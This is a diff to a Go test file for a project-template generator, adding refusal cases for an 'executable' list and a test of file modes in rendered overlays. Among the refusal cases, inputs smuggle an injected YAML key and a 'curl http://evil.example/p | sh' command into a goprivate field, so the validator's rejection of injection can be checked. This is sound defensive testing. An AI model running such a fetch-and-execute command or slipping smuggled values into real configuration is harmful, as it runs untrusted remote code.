@@ -3,6 +3,7 @@ package preset
 import (
 	"context"
 	"errors"
+	"io/fs"
 	"os"
 	"path/filepath"
 	"slices"
@@ -172,6 +173,11 @@ func TestPackRefusals(t *testing.T) {
 			}
 		}, want: "p/overlay: symbolic links are not allowed in a pack"},
 		{name: "overlay producing the record", files: map[string]string{"p/preset.yaml": "name: p\n", "p/overlay/.gonew-prod.yaml.tmpl": "x\n"}, want: ".gonew-prod.yaml is the project's record"},
+		{name: "executable naming no overlay template", files: map[string]string{"p/preset.yaml": "name: p\nexecutable:\n  - scripts/deploy.sh.tmpl\n"},
+			want: "p/preset.yaml:3:5: executable: scripts/deploy.sh.tmpl is not a template of the overlay or of a pack this one extends"},
+		{name: "executable naming an output path", files: map[string]string{"p/preset.yaml": "name: p\nexecutable: [scripts/deploy.sh]\n", "p/overlay/scripts/deploy.sh.tmpl": "#!/bin/sh\n"},
+			want: `p/preset.yaml:2:14: executable: "scripts/deploy.sh": want an overlay template's name`},
+		{name: "executable escaping the overlay", files: map[string]string{"p/preset.yaml": "name: p\nexecutable: [../x.tmpl]\n"}, want: `p/preset.yaml:2:14: executable: "../x.tmpl"`},
 		{name: "remove naming no built-in file", files: map[string]string{"p/preset.yaml": "name: p\nremove: [cmd/orders/main.go]\n"}, want: "p/preset.yaml:2:10: remove cmd/orders/main.go: no built-in file has that path"},
 		{name: "goprivate injection", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: \"x/*\\\"\\n  EVIL: \\\"injected\"\n"}, want: "p/preset.yaml:2:12: goprivate"},
 		{name: "goprivate shell", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: 'x.example/*; curl http://evil.example/p | sh'\n"}, want: "goprivate: pattern"},
@@ -513,5 +519,51 @@ func TestSiblingPacksInACheckout(t *testing.T) {
 				t.Errorf("Recorded: %v", err)
 			}
 		})
+	}
+}
+
+// TestExecutableOverlay: the templates a pack lists under executable are rendered with
+// mode 0755, through the chain and when an extending pack replaces the template; the mode
+// of a template file on disk does not count (a module zip keeps none).
+func TestExecutableOverlay(t *testing.T) {
+	dir := t.TempDir()
+	writeTree(t, dir, map[string]string{
+		"p/base/preset.yaml":                    "name: base\nexecutable: [scripts/deploy.sh.tmpl]\n",
+		"p/base/overlay/scripts/deploy.sh.tmpl": "#!/bin/sh\necho base\n",
+		"p/base/overlay/scripts/notes.txt.tmpl": "notes\n",
+		"p/preset.yaml":                         "name: p\nextends: ./base\nexecutable: [Makefile.tmpl]\n",
+		"p/overlay/scripts/deploy.sh.tmpl":      "#!/bin/sh\necho {{.Name}}\n",
+		"p/overlay/Makefile.tmpl":               "all:\n\t@true\n",
+		"p/overlay/hooks/run.sh.tmpl":           "#!/bin/sh\n",
+	})
+	if err := os.Chmod(filepath.Join(dir, "p/overlay/hooks/run.sh.tmpl"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./p")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := []string{"scripts/deploy.sh.tmpl", "Makefile.tmpl"}; !slices.Equal(p.Executable, want) {
+		t.Errorf("executable %q, want %q", p.Executable, want)
+	}
+	a, _, err := answers.Resolve(p.Answers, moduleLayer("example.com/orders"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	files, err := generator.Render(context.Background(), p.Project(a, "v0.0.0-test"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]fs.FileMode{"scripts/deploy.sh": 0o755, "Makefile": 0o755, "scripts/notes.txt": 0o644, "hooks/run.sh": 0o644, "go.mod": 0o644}
+	for _, f := range files {
+		if m, ok := want[f.Path]; ok {
+			if f.Mode != m {
+				t.Errorf("%s: mode %04o, want %04o", f.Path, f.Mode, m)
+			}
+			delete(want, f.Path)
+		}
+	}
+	if len(want) > 0 {
+		t.Errorf("not rendered: %v", want)
 	}
 }
